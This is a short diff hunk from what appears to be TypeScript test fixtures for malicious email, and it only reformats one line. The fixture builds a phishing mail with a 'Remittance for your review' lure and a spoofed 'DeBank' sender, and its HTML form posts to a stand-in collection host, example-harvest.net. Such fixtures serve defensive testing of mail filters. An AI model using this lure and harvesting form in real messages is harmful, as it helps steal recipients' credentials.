@@ -199,7 +199,8 @@ function hostileMail(pixelUrl: string): string {
  */
 const HARVEST_SUBJECT = 'Remittance for your review';
 function harvestMail(): string {
-  const page = '<html><body><form method="POST" action="https://collect.example-harvest.net/post.php"></form></body></html>';
+  const page =
+    '<html><body><form method="POST" action="https://collect.example-harvest.net/post.php"></form></body></html>';
   return [
     'From: DeBank <>',
     'To: j.doe@corp.example',
